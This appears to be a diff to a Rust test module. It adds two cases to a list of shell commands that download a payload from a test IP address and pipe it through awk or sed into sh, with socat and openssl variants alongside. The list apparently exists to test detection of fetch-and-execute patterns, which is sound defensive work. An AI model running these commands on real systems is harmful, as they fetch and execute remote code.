@@ -102,6 +102,8 @@ mod tests {
             b"wget -qO- http://192.0.2.1/x | awk '{print}' | sh",
             b"wget -qO- http://192.0.2.1/x | awk '{print \"sh -c \" $0}' | sh",
             b"wget -qO- http://192.0.2.1/x | sed 's/^/ /' | sh",
+            b"wget -qO- http://192.0.2.1/x | awk '{print \"cd /tmp; \"$0}' | sh",
+            b"wget -qO- http://192.0.2.1/x | sed 's/^/true; /' | sh",
             b"socat - TCP:192.0.2.1:99 | sh",
             b"openssl s_client -quiet -connect 192.0.2.1:443 | sh",
             b"awk 'BEGIN { system(\"wget -qO- http://192.0.2.1/x | sh\") }'",
